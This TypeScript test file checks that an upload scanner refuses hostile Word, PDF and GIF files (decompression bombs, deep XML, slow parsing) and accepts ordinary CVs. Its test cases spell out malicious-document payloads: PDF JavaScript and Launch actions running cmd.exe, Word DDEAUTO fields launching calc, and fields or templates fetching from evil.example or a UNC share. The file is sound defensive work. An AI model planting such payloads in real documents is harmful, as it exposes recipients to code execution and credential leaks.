/**
 * Files made to hurt: each is judged by the real pool of workers, as a post would be, and refused, while
 * the server's own thread keeps turning.
 */
import { randomBytes } from 'node:crypto';
import { checkFileContent, closeFileChecks, FILE_CONTENT_MESSAGES } from '../fileContent';
import { animatedGif, complexField, handMadePdf, manyObjectsPdf, manyRelationships, nestedWord, objectStreamBomb, onePage, relationshipsPart, WORD_PARTS, wordPackage, wordPart, zipBomb } from '@/test/hostileFiles';
import { doc, image, pdf } from '@/test/samples';

afterAll(closeFileChecks);

// Each verdict is the file's, whatever the machine's load: a busy machine only makes it later.
jest.setTimeout(60_000);

const refusedAs = (reason: keyof typeof FILE_CONTENT_MESSAGES) => ({ ok: false, message: FILE_CONTENT_MESSAGES[reason] });
const MB = 1024 * 1024;

/** How often a 1 ms timer fired on this thread while `work` ran. */
async function timerTurnsDuring(work: Promise<unknown>): Promise<number> {
  let turns = 0;
  const timer = setInterval(() => (turns += 1), 1);
  await work;
  clearInterval(timer);
  return turns;
}

describe('decompression is bounded, whatever sizes the file declares', () => {
  test('a Word file whose content types declare 1,000 bytes but inflate to 200 MB is refused, off this thread', async () => {
    const bomb = zipBomb({ 'word/document.xml': WORD_PARTS['word/document.xml'] }, '[Content_Types].xml', 200 * MB);
    expect(bomb.length).toBeLessThan(1 * MB);
    const check = checkFileContent('docx', bomb);
    expect(await timerTurnsDuring(check)).toBeGreaterThan(0);
    expect(await check).toEqual(refusedAs('tooComplex'));
  });

  test('a picture inside a Word file that inflates past the budget is refused', async () => {
    const bomb = zipBomb(WORD_PARTS, 'word/media/image1.png', 100 * MB);
    expect(await checkFileContent('docx', bomb)).toEqual(refusedAs('tooComplex'));
  });

  test('a PDF whose object stream inflates to 100 MB is refused', async () => {
    expect(await checkFileContent('pdf', objectStreamBomb(100 * MB))).toEqual(refusedAs('tooComplex'));
  });

  test('a PDF of 30,000 tiny objects is refused', async () => {
    expect(await checkFileContent('pdf', manyObjectsPdf(30_000))).toEqual(refusedAs('tooComplex'));
  });

  test('an animated GIF of 8 frames of 1000 x 1000 is refused before a frame is decoded; a small animation passes', async () => {
    expect(await checkFileContent('gif', await animatedGif(8, 1000))).toEqual(refusedAs('tooComplex'));
    expect(await checkFileContent('gif', await animatedGif(4, 200))).toMatchObject({ ok: true });
  });
});

describe("the workers' memory holds what the checks' own bounds let through", () => {
  // The workers' heap is kept small so a flood of hostile files cannot swell the server; a real file at
  // the size and count bounds must still be judged, not refused for memory.
  test('a PDF of 19,000 objects, a sheet and a Word 97 file of 4.5 MB each are accepted', async () => {
    expect(await checkFileContent('pdf', manyObjectsPdf(19_000))).toMatchObject({ ok: true });
    const sheet = new TextEncoder().encode(Array.from({ length: 110_000 }, (_, row) => `Asha Rao ${row},Mathematics,${row % 30},"Mumbai, MH"`).join('\n'));
    expect(sheet.length).toBeGreaterThan(4.4 * MB);
    expect(await checkFileContent('csv', sheet)).toMatchObject({ ok: true });
    const longDoc = doc({ text: 'A paragraph of the CV. '.repeat(200_000) });
    expect(longDoc.length).toBeGreaterThan(4.4 * MB);
    expect(await checkFileContent('doc', longDoc)).toMatchObject({ ok: true });
  });
});

describe('XML is bounded in depth and elements, as a parser works through them', () => {
  test('a Word file of four parts of 200,000 nested paragraphs is refused as too complex; 200 nested pass', async () => {
    const deep = nestedWord(200_000, 4);
    expect(deep.length).toBeLessThan(100 * 1024);
    expect(await checkFileContent('docx', deep)).toEqual(refusedAs('tooComplex'));
    expect(await checkFileContent('docx', nestedWord(200, 4))).toMatchObject({ ok: true });
  });
});

describe('a PDF ends at its last %%EOF', () => {
  test('a PDF with a ZIP appended is refused; a line end or two after %%EOF pass', async () => {
    const plain = handMadePdf(onePage());
    const withZip = new Uint8Array(Buffer.concat([plain, wordPackage({ 'word/media/payload.txt': randomBytes(8192).toString('hex') })]));
    expect(await checkFileContent('pdf', withZip)).toEqual(refusedAs('pdf'));
    const padded = new Uint8Array(Buffer.concat([plain, Buffer.from('\r\n\n  ')]));
    expect(await checkFileContent('pdf', padded)).toMatchObject({ ok: true });
  });
});

describe('a check that runs out of time ends its worker, and the file is refused', () => {
  // Six parts of 100,000 relationships: a plain file, seconds of reading at any load.
  const slow = manyRelationships(100_000, 6);

  test('a file still being read at its limit is refused; the same file given time enough passes, in a fresh worker', async () => {
    expect(await checkFileContent('docx', slow, { timeLimitMs: 100 })).toEqual(refusedAs('tooComplex'));
    // Far past the time it needs on a busy machine: only the limit, not the machine's speed, decides.
    expect(await checkFileContent('docx', slow, { timeLimitMs: 50_000 })).toMatchObject({ ok: true });
  });

  test("time spent waiting for a worker does not count against a file's own limit", async () => {
    // Every worker busy with other clients' long files, then a photo with a limit far shorter than that wait.
    const flood = [1, 2, 3].map((n) => checkFileContent('docx', slow, { client: `flooder${n}` }));
    const started = performance.now();
    const photo = await checkFileContent('jpeg', await image('jpeg'), { client: 'applicant', timeLimitMs: 300 });
    expect(performance.now() - started).toBeGreaterThan(300);
    expect(photo).toMatchObject({ ok: true });
    await Promise.all(flood);
  });
});

describe('a PDF is judged as a reader opens it, and every copy of every object', () => {
  const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const LAUNCH = '<< /S /Launch /F (cmd.exe) >>';
  const HARMLESS = '<< /S /GoTo /D [3 0 R /Fit] >>';

  test('a plain hand-made PDF passes, as it came', async () => {
    const plain = handMadePdf([...onePage('/OpenAction 4 0 R'), [4, HARMLESS]]);
    expect(await checkFileContent('pdf', plain)).toEqual({ ok: true, bytes: plain });
  });

  test.each([
    ['a script', SCRIPT],
    ['a launch action', LAUNCH],
  ])('%s in the copy of object 4 the table points at, hidden by a harmless later copy, is refused', async (_case, action) => {
    const file = handMadePdf([...onePage('/OpenAction 4 0 R'), [4, action], [4, HARMLESS]], { pick: 'first' });
    expect(await checkFileContent('pdf', file)).toEqual(refusedAs('pdf'));
  });

  test('a document-level named script defined twice is refused', async () => {
    const names = '<< /JavaScript << /Names [(hello) 6 0 R] >> >>';
    const file = handMadePdf([...onePage('/Names 7 0 R'), [6, SCRIPT], [7, names], [7, '<< >>']], { pick: 'first' });
    expect(await checkFileContent('pdf', file)).toEqual(refusedAs('pdf'));
  });

  test('a script in an earlier revision, replaced by an incremental update, is refused', async () => {
    const first = Buffer.from(handMadePdf([...onePage('/OpenAction 4 0 R'), [4, SCRIPT]])).toString('latin1');
    const start = first.length;
    const update = `4 0 obj\n${HARMLESS}\nendobj\n`;
    const table = `xref\n4 1\n${String(start).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${first.lastIndexOf('xref')} >>\nstartxref\n${start + update.length}\n%%EOF\n`;
    expect(await checkFileContent('pdf', new Uint8Array(Buffer.from(first + update + table, 'latin1')))).toEqual(refusedAs('pdf'));
  });

  test('a file whose table points where its object is not is refused', async () => {
    const objects = [...onePage(), [4, HARMLESS]] as [number, string][];
    const honest = Buffer.from(handMadePdf(objects)).toString('latin1');
    const wrong = handMadePdf(objects, { tableOffsets: { 3: honest.indexOf('2 0 obj') } });
    expect(await checkFileContent('pdf', handMadePdf(objects))).toMatchObject({ ok: true });
    expect(await checkFileContent('pdf', wrong)).toEqual(refusedAs('pdf'));
  });

  test('a link to a web page passes; a link to a program or another file on a share is refused', async () => {
    const withLink = (action: string) => handMadePdf([
      [1, '<< /Type /Catalog /Pages 2 0 R >>'],
      [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
      [3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [6 0 R] >>'],
      [6, `<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A ${action} >>`],
    ]);
    expect(await checkFileContent('pdf', withLink('<< /S /URI /URI (https://example.org/portfolio) >>'))).toMatchObject({ ok: true });
    expect(await checkFileContent('pdf', withLink('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>'))).toEqual(refusedAs('pdf'));
    expect(await checkFileContent('pdf', withLink('<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>'))).toEqual(refusedAs('pdf'));
  });

  test('the sample CV still passes whole', async () => {
    expect(await checkFileContent('pdf', pdf())).toEqual({ ok: true, bytes: pdf() });
  });
});

describe('Word fields that run or fetch, and imported parts, are refused wherever Word reads them', () => {
  const document = (paragraphs: string) => ({ 'word/document.xml': wordPart('document', paragraphs) });

  test.each<[string, Record<string, string>]>([
    ['a DDEAUTO field in the body', document(complexField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))],
    ['a DDE field split over runs', document(complexField(' DD', 'E c:\\\\x.exe "a" '))],
    ['an INCLUDEPICTURE of a UNC path in a header', { 'word/header1.xml': wordPart('hdr', complexField(' INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\a.png" \\\\d ')) }],
    ['an INCLUDETEXT of an address in a footer', { 'word/footer1.xml': wordPart('ftr', complexField(' INCLUDETEXT "http://evil.example/x" ')) }],
    ['an IMPORT field in a footnote', { 'word/footnotes.xml': wordPart('footnotes', complexField(' IMPORT "http://evil.example/x.png" ')) }],
    ['a LINK field in a comment', { 'word/comments.xml': wordPart('comments', '<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.8 &quot;\\\\evil\\x.xls&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>') }],
    ['a field name spelled with an entity', document(complexField(' &#68;DEAUTO c:\\\\x.exe "a" '))],
    [
      'an altChunk part holding a web archive',
      {
        ...document('<w:altChunk r:id="rId9" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'),
        'word/_rels/document.xml.rels': '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="chunk.mht"/></Relationships>',
        'word/chunk.mht': 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/x.png">',
      },
    ],
    [
      'an outside template behind a ">" inside an attribute value',
      {
        'word/_rels/settings.xml.rels': relationshipsPart(
          '<Relationship Id="rId1" Note="a>b" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
        ),
      },
    ],
    ['an INCLUDEPICTURE field behind a ">" inside an attribute value', document(`<w:p><w:r w:rsidR="a>b"><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/x.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)],
    ['an outside image under another prefix', { 'word/_rels/document.xml.rels': relationshipsPart('<p:Relationship xmlns:p="urn:other" Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/x.png" TargetMode="External"/>') }],
    ['a frame to another address', { 'word/_rels/webSettings.xml.rels': relationshipsPart('<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame" Target="http://evil.example/"/>') }],
    ['a part that declares a DTD', { 'word/document.xml': `<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY e "x">]>${WORD_PARTS['word/document.xml']!.replace('<?xml version="1.0"?>', '')}` }],
    ['a part that is not well-formed', { 'word/document.xml': '<?xml version="1.0"?><w:document><w:body></w:document>' }],
  ])('%s is refused', async (_case, parts) => {
    expect(await checkFileContent('docx', wordPackage(parts))).toEqual(refusedAs('word'));
  });

  test('60,000 relationships are read in one linear pass, and the file passes', async () => {
    const file = manyRelationships(60_000);
    expect(file.length).toBeLessThan(64 * 1024);
    expect(await checkFileContent('docx', file)).toMatchObject({ ok: true });
  });

  test('a CV with a hyperlink field, a page number and a table of contents passes', async () => {
    const fields = complexField(' HYPERLINK "https://example.org/link/portfolio" ') + complexField(' PAGE ') + complexField(' TOC \\\\o "1-3" ');
    expect(await checkFileContent('docx', wordPackage(document(fields)))).toMatchObject({ ok: true });
  });
});
